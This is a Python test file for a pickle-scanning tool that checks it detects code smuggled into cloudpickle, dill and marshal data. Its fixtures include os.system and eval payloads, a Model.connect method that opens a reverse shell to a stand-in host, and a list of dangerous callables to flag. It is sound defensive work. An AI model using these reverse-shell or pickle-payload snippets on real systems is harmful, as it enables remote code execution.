"""Compiled code in pickles of the real cloudpickle and dill, and in marshal data of every release."""

from __future__ import annotations

import marshal
import os as operating_system
import pickle
import pickletools
from collections.abc import Callable
from dataclasses import dataclass
from types import CodeType

import cloudpickle
import dill
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from samples.recipes.assembler import call, data, integer, name, stream, text, tuple_of

from tests.formats.bytecode.compiled import RELEASES, compiled
from weighbridge.analyzers.inspection import Context, Event
from weighbridge.analyzers.pickle import bytecode as pickle_bytecode
from weighbridge.analyzers.pickle import code_judgement
from weighbridge.analyzers.pickle.bytecode import code_objects
from weighbridge.analyzers.pickle.code_names import danger
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact
from weighbridge.core.finding import Finding
from weighbridge.core.limits import Budget, Limits
from weighbridge.core.report import Coverage, Outcome
from weighbridge.formats.pickle.contents import read_contents
from weighbridge.knowledge.callables import CallableKnowledge
from weighbridge.knowledge.locate import signatures_dir
from weighbridge.knowledge.payloads import PayloadClass

KNOWLEDGE = CallableKnowledge.load(signatures_dir() / "callables")
COMMAND = "echo weighbridge-marker"


def events(pickled: bytes) -> list[Event]:
    artifact = Artifact(("model.pkl",), MemorySource(pickled))
    context = Context(Budget(Limits()), KNOWLEDGE)
    streams = read_contents(artifact.source, context.budget.limits).streams
    return list(code_objects(artifact, streams, context))


def findings(pickled: bytes) -> list[Finding]:
    return [event for event in events(pickled) if isinstance(event, Finding)]


def rules(pickled: bytes) -> list[str]:
    return [finding.rule for finding in findings(pickled)]


# What is pickled here is never called.


def starts_program(x: object) -> object:
    return operating_system.system("echo weighbridge-marker")


def scale(x: float) -> float:
    return x / 255.0


def with_closure() -> Callable[[str], object]:
    factor = 3

    def outer(x: str) -> object:
        def inner() -> object:
            return eval("1 + 1") if x in {"a", "b"} else factor

        return inner

    return outer


class Model:
    def predict(self, x: object) -> object:
        return self.network.eval() and x.compile()  # type: ignore[attr-defined]

    def connect(self) -> None:
        import socket
        import subprocess

        channel = socket.socket()
        channel.connect(("host.example.invalid", 1))
        operating_system.dup2(channel.fileno(), 0)
        subprocess.call(["/bin/sh", "-i"])


@dataclass
class Loads:
    """Pickles itself as `marshal.loads(data)`."""

    code: CodeType

    def __reduce__(self) -> tuple[Callable[[bytes], object], tuple[bytes]]:
        return marshal.loads, (marshal.dumps(self.code),)


cloudpickle.register_pickle_by_value(__import__(__name__, fromlist=["*"]))


def dilled(what: object, protocol: int) -> bytes:
    return dill.dumps(what, protocol=protocol, byref=False, recurse=True)  # type: ignore[no-any-return]


@pytest.mark.parametrize("protocol", [0, 2, 3, 4, 5])
def test_cloudpickle_and_dill_carry_code_that_starts_a_program(protocol: int) -> None:
    both = (cloudpickle.dumps(starts_program, protocol), Dill().dumps(starts_program, protocol))

    found = [findings(pickled) for pickled in both]

    assert [[each.rule for each in one] for one in found] == [["COD001"], ["COD001"]]
    assert all("calls os.system('echo weighbridge-marker')" in one[0].evidence for one in found)
    assert {one[0].subject for one in found} == {"os.system in starts_program"}


class Dill:
    """dill writes functions of an importable module by name; this one has no module."""

    def dumps(self, function: object, protocol: int) -> bytes:
        function.__module__ = "__main__"
        try:
            return dilled(function, protocol)
        finally:
            function.__module__ = __name__


@pytest.mark.parametrize("protocol", [2, 5])
def test_harmless_functions_are_said_and_no_more(protocol: int) -> None:
    (found,) = findings(cloudpickle.dumps([scale, lambda x: x / 255], protocol))

    assert found.rule == "COD003"
    assert "scale of" in found.evidence
    assert "Python 3." in found.evidence


def test_nested_functions_and_their_constants_are_read() -> None:
    (found,) = findings(cloudpickle.dumps(with_closure()))

    assert found.rule == "COD001"
    assert "calls eval('1 + 1')" in found.evidence


def test_a_class_is_judged_method_by_method() -> None:
    found = findings(cloudpickle.dumps(Model))

    assert [each.rule for each in found] == ["COD001", "COD002", "COD005", "COD006", "COD003"]
    assert found[3].subject == "reverse-shell in Model.connect"
    assert found[4].subject == "Model.predict"


@pytest.mark.parametrize("protocol", range(6))
def test_marshal_data_that_a_pickle_loads(protocol: int) -> None:
    code = compile(f"import os; os.system({COMMAND!r})", "model.py", "exec")

    (found,) = findings(pickle.dumps(Loads(code), protocol))

    assert found.rule == "COD001"
    assert f"calls os.system({COMMAND!r})" in found.evidence
    assert "line 1" in found.evidence


@pytest.mark.parametrize("release", RELEASES)
def test_marshal_data_of_every_release(release: str) -> None:
    pickled = stream(call(name("marshal", "loads"), data(compiled("plain", release))))

    (found,) = findings(pickled)

    assert found.rule == "COD001"
    assert f"calls os.system({COMMAND!r})" in found.evidence


@pytest.mark.parametrize("maker", ["marshal", "_marshal", "importlib._bootstrap_external.marshal"])
def test_marshal_under_other_names(maker: str) -> None:
    pickled = stream(call(name(maker, "loads"), data(compiled("plain", "3.9"))))

    assert rules(pickled) == ["COD001"]


def test_offset_is_that_of_the_call() -> None:
    pickled = stream(call(name("marshal", "loads"), data(compiled("plain", "3.9"))))

    (found,) = findings(pickled)

    reduces = [at for opcode, _, at in pickletools.genops(pickled) if opcode.name == "REDUCE"]
    assert [found.offset] == reduces
    assert found.route == "REDUCE"


def test_code_that_is_a_part_of_other_code_is_judged_with_it() -> None:
    inner = call(name("types", "CodeType"), *parts("inner", constants=(text(COMMAND),)))
    outer = call(name("types", "CodeType"), *parts("outer", constants=(inner,)))

    found = findings(stream(outer))

    assert len(found) == 1
    assert "outer" in found[0].subject


def test_makers_are_known_by_what_they_are_given() -> None:
    """`code_type = getattr(...)(...)`: nobody knows its name, and it makes code all the same."""
    unknown = call(call(name("cloudpickle.cloudpickle", "_builtin_type"), text("X")), *parts("f"))

    assert rules(stream(unknown)) == ["COD003"]


@pytest.mark.parametrize(
    ("pickled", "problem"),
    [
        (call(name("marshal", "loads"), data(b"c" * 90)), "marshal data is cut off"),
        (call(name("marshal", "loads"), call(name("zlib", "decompress"), data(b"x"))), "is computed"),
        (call(name("types", "CodeType"), *[integer(1)] * 16), "no tuple"),
        (call(name("types", "CodeType"), integer(1)), "no code object has 1 parts"),
    ],
)
def test_code_that_cannot_be_read_is_a_finding_and_incomplete(pickled: bytes, problem: str) -> None:
    finding, coverage = events(stream(pickled))

    assert isinstance(finding, Finding)
    assert finding.rule == "COD004"
    assert problem in finding.evidence
    assert isinstance(coverage, Coverage)
    assert coverage.outcome is Outcome.FAILED


def test_code_of_a_release_without_a_table_is_read_by_its_names() -> None:
    nonsense = call(
        name("types", "CodeType"),
        *parts("f", code=b"\xff" * 6, names=("os", "system"), constants=(text(COMMAND),)),
    )

    coverage, finding = events(stream(nonsense))

    assert isinstance(coverage, Coverage)
    assert coverage.outcome is Outcome.LIMITED
    assert isinstance(finding, Finding)
    assert finding.rule == "COD001"
    assert "names os.system" in finding.evidence


@pytest.mark.parametrize("value", [{"a": [1, 2.5, "text"]}, range(3), [b"c" * 100], map])
def test_pickles_without_code_say_nothing(value: object) -> None:
    assert events(pickle.dumps(value)) == []


def test_number_of_code_objects_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pickle_bytecode, "MAX_CODES", 2)
    pickled = cloudpickle.dumps([lambda: 1, lambda: 2, lambda: 3])

    rows = [event for event in events(pickled) if isinstance(event, Coverage)]

    assert [row.outcome for row in rows] == [Outcome.LIMITED]
    assert "more than 2 code objects" in rows[0].detail


def test_constants_that_hold_each_other_end() -> None:
    twice = tuple_of(text("x")) + b"\x94" + (b"0h\x00h\x00\x86\x94" + b"0h\x01h\x01\x86\x94")
    pickled = stream(call(name("types", "CodeType"), *parts("f", constants=(twice,))))

    assert rules(pickled) == ["COD003"]


@pytest.mark.parametrize(
    ("dotted", "rule"),
    [
        ("os.system", "COD001"),
        ("posix.system", "COD001"),
        ("random._os.system", "COD001"),
        ("threading._os.system", "COD001"),
        ("exec", "COD001"),
        ("ctypes.CDLL", "COD001"),
        ("subprocess.run", "COD001"),
        ("o.system", "COD002"),
        ("open", "COD002"),
        ("os.environ.get", "COD002"),
        ("pandas.read_csv", "COD002"),
        ("socket.socket", "COD005"),
        ("pickle.loads", "COD005"),
        ("os.path.join", None),
        ("sys.platform.startswith", None),
        ("model.eval", None),
        ("frame.query", None),
        ("numpy.linalg.norm", None),
        ("re.compile", None),
        ("len", None),
    ],
)
def test_what_names_mean_in_code(dotted: str, rule: str | None) -> None:
    found = danger(dotted, KNOWLEDGE)

    assert (found.rule if found is not None else None) == rule


def test_names_of_python_2_are_those_of_python_3() -> None:
    found = danger("commands.getoutput", KNOWLEDGE, protocol=2)

    assert found is not None
    assert found.rule == "COD001"


PICKLED = cloudpickle.dumps(starts_program), cloudpickle.dumps(Model), dilled(with_closure(), 4)


@given(st.sampled_from(PICKLED), st.data())
@settings(max_examples=150, deadline=None)
def test_mutations_of_real_pickles_raise_nothing(pickled: bytes, data: st.DataObject) -> None:
    changed = bytearray(pickled)
    for _ in range(data.draw(st.integers(1, 4))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))

    assert all(isinstance(event, Finding | Coverage) for event in events(bytes(changed)))


def parts(
    title: str,
    *,
    code: bytes = b"d\x00S\x00",
    names: tuple[str, ...] = (),
    constants: tuple[bytes, ...] = (integer(1),),
) -> tuple[bytes, ...]:
    """The arguments of `types.CodeType` of Python 3.8, as expressions."""
    return (
        *[integer(0)] * 6,
        data(code),
        tuple_of(*constants),
        tuple_of(*(text(each) for each in names)),
        *(tuple_of(), text("model.py"), text(title), integer(1), data(b""), tuple_of(), tuple_of()),
    )


def test_classes_of_payloads_are_spelled_as_their_table_does() -> None:
    spelled = code_judgement._MALICIOUS | code_judgement._UNTOLD

    assert spelled <= {kind.value for kind in PayloadClass}
